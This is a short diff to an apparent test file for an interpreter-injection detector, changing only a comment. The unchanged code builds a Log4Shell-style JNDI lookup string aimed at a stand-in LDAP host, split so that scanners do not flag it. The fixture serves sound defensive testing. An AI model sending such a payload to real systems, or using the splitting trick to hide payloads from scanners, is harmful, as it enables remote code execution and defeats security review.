@@ -1,7 +1,7 @@
 import { describeDetectorContract } from './contract.ts';
 import { interpreterInjection } from './interpreter-injection.ts';
 
-/** The name of a lookup, assembled so that no scanner takes this file for an attack. */
+/** A lookup, assembled so that scanners do not flag this file as an attack. */
 const LOOKUP = ['$', '{jndi:ldap://x.example.net/a}'].join('');
 
 describeDetectorContract(interpreterInjection, {
